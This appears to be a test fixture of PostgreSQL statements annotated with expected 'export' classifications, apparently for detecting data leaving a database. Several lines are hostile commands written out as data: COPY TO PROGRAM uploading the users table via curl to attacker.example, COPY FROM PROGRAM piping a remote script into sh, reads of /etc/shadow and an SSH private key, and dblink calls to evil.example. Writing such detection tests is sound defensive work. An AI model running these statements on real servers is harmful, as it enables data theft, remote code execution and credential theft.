-- Data leaving the database, and server file access.
-- expect: export tables=orders
COPY orders TO STDOUT;
-- expect: export tables=orders
COPY orders TO STDOUT WITH (FORMAT csv, HEADER);
-- expect: export tables=users
COPY (SELECT email FROM users) TO STDOUT;
-- expect: export tables=users
COPY users TO '/tmp/users.csv';
-- expect: export tables=users
COPY users TO PROGRAM 'curl -T - https://attacker.example/upload';
-- expect: export
COPY (SELECT 1) TO PROGRAM 'bash -c "id > /tmp/pwned"';
-- expect: export tables=t
COPY t FROM PROGRAM 'curl https://attacker.example/payload.sh | sh';
-- expect: export tables=t
COPY t FROM '/etc/passwd';
-- expect: export functions=pg_read_file
SELECT pg_read_file('/etc/passwd');
-- expect: export functions=pg_read_file
SELECT pg_read_file('postgresql.conf', 0, 200);
-- expect: export functions=pg_read_binary_file
SELECT pg_read_binary_file('/var/lib/postgresql/.ssh/id_rsa');
-- expect: export functions=pg_ls_dir
SELECT pg_ls_dir('.');
-- expect: export functions=pg_stat_file
SELECT * FROM pg_stat_file('/etc/shadow');
-- expect: export functions=lo_export
SELECT lo_export(16409, '/tmp/out.bin');
-- expect: export functions=lo_import
SELECT lo_import('/etc/passwd');
-- expect: export functions=dblink
SELECT * FROM dblink('host=evil.example dbname=x', 'SELECT 1') AS t(a int);
-- expect: export functions=dblink_exec
SELECT dblink_exec('host=evil.example', 'CREATE TABLE pwn (x int)');
-- expect: export functions=dblink_connect
SELECT dblink_connect('c', 'host=evil.example');
-- expect: export functions=pg_ls_logdir
SELECT * FROM pg_ls_logdir();
-- expect: export functions=pg_ls_waldir
SELECT * FROM pg_ls_waldir();
-- expect: export functions=pg_file_write
SELECT pg_file_write('/tmp/x', 'data', false);
-- expect: export tables=users functions=pg_read_file
SELECT id FROM users WHERE name = pg_read_file('/etc/hostname');
-- expect: export functions=pg_read_file
SELECT pg_catalog.pg_read_file('/etc/passwd');
-- expect: export tables=orders
COPY orders TO STDOUT (FORMAT binary);
-- expect: export
COPY (SELECT * FROM users WHERE admin) TO '/var/lib/postgresql/out.csv' WITH CSV;
